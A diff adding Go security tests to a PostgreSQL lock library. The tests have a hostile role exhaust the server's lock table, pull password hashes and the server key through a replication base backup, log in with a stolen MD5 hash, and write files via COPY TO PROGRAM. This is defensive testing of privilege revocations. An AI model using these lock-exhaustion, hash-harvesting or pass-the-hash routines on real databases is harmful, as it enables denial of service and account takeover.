@@ -2,9 +2,13 @@ package postgres
 
 import (
 	"context"
+	"crypto/md5"
+	"encoding/hex"
 	"errors"
 	"fmt"
+	"net"
 	"net/url"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -684,4 +688,177 @@ func TestAStrangerWhoMaySelectAndDelete(t *testing.T) {
 	s := withStrangers(t)
 	a, b := s.used("SELECT, DELETE")
 	storecheck.LineTaken(t, a, b, func() { s.mallory(`DELETE FROM ` + usual + ` WHERE key = 'line/orders'`) })
+}
+
+// Locks stand in one table of the server's, in which each transaction that writes needs a place, too. Whoever fills that, in whatever
+// database, has all holds end in time. Nobody is let in meanwhile.
+func TestAStrangerOfAnotherDatabaseWhoFillsTheTableOfLocks(t *testing.T) {
+	s := withStrangers(t, servers.Config("max_locks_per_transaction = 10")) // so it takes him less time
+	s.admin(`CREATE DATABASE theirs`, `REVOKE CONNECT ON DATABASE postgres FROM PUBLIC`, `GRANT CONNECT ON DATABASE postgres TO app`)
+	theirs := storecheck.As(t, s.m.URL(), "mallory", "", "theirs")
+	a, b := s.app(WithLongestTTL(2*time.Second)), s.app(WithLongestTTL(2*time.Second))
+	for _, way := range []struct{ name, one, revoke string }{
+		{"advisory locks", `PERFORM pg_advisory_lock(n)`, revokeAdvisory},
+		{"temporary tables", `EXECUTE format('CREATE TEMPORARY TABLE t%s ()', n)`, `REVOKE TEMPORARY ON DATABASE theirs FROM PUBLIC`},
+		{"large objects", `PERFORM lo_unlink(lo_create(0))`, `REVOKE EXECUTE ON FUNCTION lo_create(oid), lo_creat(integer), lo_from_bytea(oid, bytea) FROM PUBLIC`},
+	} {
+		t.Run(way.name, func(t *testing.T) {
+			h := storecheck.Locked(t, a, "orders")
+			c := dialed(t, theirs)
+			defer c.Close(context.Background())
+			ctx, enough := context.WithCancel(within(t, time.Minute))
+			over := make(chan error, 1)
+			go func() {
+				_, err := c.Exec(ctx, `DO $$ DECLARE n int := 0; BEGIN LOOP
+					BEGIN `+way.one+`; n := n + 1; EXCEPTION WHEN out_of_memory THEN NULL; END; END LOOP; END $$`)
+				over <- err
+			}()
+			storecheck.EndsSoon(t, h)
+			if _, err := mutex.New(b, "orders").TryLock(within(t, time.Second)); err == nil {
+				t.Error("somebody is let in meanwhile")
+			}
+			enough()
+			<-over
+			_ = h.Release()
+			storecheck.ShutsOut(t, a, b, "orders")
+			query(t, storecheck.As(t, s.m.URL(), "postgres", "", "theirs"), way.revoke)
+			again := dialed(t, theirs)
+			defer again.Close(context.Background())
+			if _, err := again.Exec(within(t, 10*time.Second), `DO $$ DECLARE n int := 0; BEGIN `+way.one+`; END $$`); err == nil || !strings.Contains(err.Error(), "42501") {
+				t.Errorf("without the right: %v", err)
+			}
+		})
+	}
+}
+
+// revokeAdvisory is what docs/security.md says, for one database.
+const revokeAdvisory = `DO $$ DECLARE f text; BEGIN
+  FOR f IN SELECT oid::regprocedure FROM pg_proc WHERE proname ~ '^pg_(try_)?advisory_' LOOP
+    EXECUTE 'REVOKE EXECUTE ON FUNCTION ' || f || ' FROM PUBLIC';
+  END LOOP; END $$`
+
+// A standby begins with all the files that there are: in these stand the passwords of all roles, and what else lies there. As MD5 they are as
+// good as the passwords themselves.
+func TestAStrangerWhoMayReplicateTakesThePasswords(t *testing.T) {
+	s := withStrangers(t)
+	a := s.app()
+	s.admin(`SET password_encryption = 'md5'; ALTER ROLE app PASSWORD 'a long one that nobody guesses'`,
+		`SET password_encryption = 'scram-sha-256'; CREATE ROLE other PASSWORD 'a long one that nobody guesses'`, `ALTER ROLE mallory REPLICATION`,
+		`DO $$ BEGIN EXECUTE format('COPY (SELECT unnest(ARRAY[''host all app 127.0.0.1/32 md5'', ''host all,replication all 127.0.0.1/32 trust''])) TO %L', current_setting('hba_file'));
+			EXECUTE format('COPY (SELECT ''the key of the server'') TO %L', current_setting('data_directory') || '/server.key'); END $$`, `SELECT pg_reload_conf()`)
+	storecheck.Eventually(t, "app needs its password", func() bool {
+		c, err := pgconn.Connect(within(t, 10*time.Second), s.url("app"))
+		if err == nil {
+			c.Close(context.Background())
+		}
+		return err != nil
+	})
+	for _, sql := range []string{"UPDATE " + usual + " SET value = 'x'", "SELECT rolpassword FROM pg_authid"} {
+		s.mayNot(sql)
+	}
+	all := s.backedUp()
+	for _, what := range []string{"the key of the server", "SCRAM-SHA-256$4096:"} {
+		if !strings.Contains(all, what) {
+			t.Errorf("he does not see %s", what)
+		}
+	}
+	for _, hash := range regexp.MustCompile(`md5[0-9a-f]{32}`).FindAllString(all, -1) {
+		if err := s.asAppBy(hash, `UPDATE `+usual+` SET value = 'x'`); err == nil {
+			storecheck.SpoilsAll(t, a)
+			return
+		}
+	}
+	t.Error("no hash has let him in")
+}
+
+// backedUp is what mallory gets who asks for a backup.
+func (s *strangers) backedUp() string {
+	s.t.Helper()
+	cfg, err := pgconn.ParseConfig(s.url("mallory"))
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	cfg.RuntimeParams["replication"] = "true"
+	c, err := pgconn.ConnectConfig(within(s.t, 20*time.Second), cfg)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	defer c.Close(context.Background())
+	c.Frontend().Send(&pgproto3.Query{String: "BASE_BACKUP (CHECKPOINT 'fast', WAIT false, MANIFEST 'no')"})
+	if err := c.Frontend().Flush(); err != nil {
+		s.t.Fatal(err)
+	}
+	var all strings.Builder
+	for ctx := within(s.t, time.Minute); ; {
+		m, err := c.ReceiveMessage(ctx)
+		if err != nil {
+			s.t.Fatal(err)
+		}
+		switch m := m.(type) {
+		case *pgproto3.ErrorResponse:
+			s.t.Fatal(m.Message)
+		case *pgproto3.CopyData:
+			all.Write(m.Data)
+		case *pgproto3.ReadyForQuery:
+			return all.String()
+		}
+	}
+}
+
+// asAppBy logs in as app with a hash in the place of the password, and runs a statement.
+func (s *strangers) asAppBy(hash, sql string) error {
+	s.t.Helper()
+	n, err := net.Dial("tcp", s.m.Addr())
+	if err != nil {
+		return err
+	}
+	defer n.Close()
+	_ = n.SetDeadline(time.Now().Add(20 * time.Second))
+	f := pgproto3.NewFrontend(n, n)
+	say := func(m pgproto3.FrontendMessage) { f.Send(m); _ = f.Flush() }
+	say(&pgproto3.StartupMessage{ProtocolVersion: pgproto3.ProtocolVersionNumber, Parameters: map[string]string{"user": "app", "database": "postgres"}})
+	for asked := false; ; {
+		m, err := f.Receive()
+		if err != nil {
+			return err
+		}
+		switch m := m.(type) {
+		case *pgproto3.AuthenticationMD5Password:
+			sum := md5.Sum(append([]byte(hash[len("md5"):]), m.Salt[:]...))
+			say(&pgproto3.PasswordMessage{Password: "md5" + hex.EncodeToString(sum[:])})
+		case *pgproto3.ErrorResponse:
+			return errors.New(m.Message)
+		case *pgproto3.ReadyForQuery:
+			if asked {
+				return nil
+			}
+			asked = true
+			say(&pgproto3.Query{String: sql})
+		}
+	}
+}
+
+// pg_write_all_data is the right to change any table, of whatever schema.
+func TestAStrangerWhoMayWriteAllData(t *testing.T) {
+	s := withStrangers(t)
+	if s.admin(`SELECT current_setting('server_version_num')::int >= 140000`) != "t" {
+		t.Skip("there is such a role from PostgreSQL 14 on")
+	}
+	a := s.app()
+	s.mayNot(`UPDATE ` + usual + ` SET value = 'x'`)
+	s.admin(`GRANT pg_write_all_data TO mallory`)
+	s.mallory(`UPDATE ` + usual + ` SET value = 'x'`)
+	storecheck.SpoilsAll(t, a)
+}
+
+// A program that the server runs may do with its files as it likes.
+func TestAStrangerWhoMayHaveTheServerRunPrograms(t *testing.T) {
+	s := withStrangers(t)
+	const run = `COPY (SELECT 'his') TO PROGRAM 'cat > his.conf'`
+	s.mayNot(run)
+	s.admin(`GRANT pg_execute_server_program TO mallory`)
+	s.mallory(run)
+	if s.admin(`SELECT pg_read_file('his.conf') LIKE 'his%'`) != "t" {
+		t.Error("the server's folder has no file of his")
+	}
 }
